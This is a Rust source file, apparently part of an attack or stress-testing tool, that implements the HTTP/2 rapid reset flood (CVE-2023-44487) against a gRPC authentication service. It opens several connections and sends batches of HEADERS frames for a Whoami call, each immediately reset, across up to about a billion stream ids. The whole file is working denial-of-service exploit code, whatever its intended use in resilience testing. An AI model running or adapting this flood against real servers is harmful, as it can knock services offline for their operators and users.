//! HTTP/2 rapid reset (CVE-2023-44487): streams are opened and reset at once, so they never count as concurrent.

use std::{sync::Arc, time::Duration};

use tokio::time::sleep;

use super::Attacker;
use crate::attack::wire::{Http2, frames};

const CONNECTIONS: u32 = 10;
/// The number of streams of a batch, and the interval between two batches.
const BATCH_SIZE: u32 = 100;
const BATCH_INTERVAL: Duration = Duration::from_millis(100);
const REPEAT_DELAY: Duration = Duration::from_millis(100);
/// The largest stream id that the attack uses on a connection.
const MAX_STREAM_ID: u32 = 1 << 30;

pub async fn flood(attacker: Arc<Attacker>) {
    attacker
        .repeat(CONNECTIONS, REPEAT_DELAY, |attacker, _| async move {
            let Ok(connection) = Http2::open(&attacker, &attacker.entrances.iam).await else { return };
            let block = frames::call(&connection.authority, "/auth.v1.AuthService/Whoami");
            let mut begun = 0;
            connection
                .drive(|| {
                    let streams = (begun..begun + BATCH_SIZE).map(|number| number * 2 + 1);
                    let bytes: Vec<u8> = streams
                        .flat_map(|stream| [frames::headers(stream, &block), frames::reset(stream)].concat())
                        .collect();
                    begun += BATCH_SIZE;
                    let goes_on = begun < MAX_STREAM_ID;
                    attacker.has_sent(BATCH_SIZE.into());
                    async move {
                        sleep(BATCH_INTERVAL).await;
                        goes_on.then_some(bytes)
                    }
                })
                .await;
        })
        .await;
}
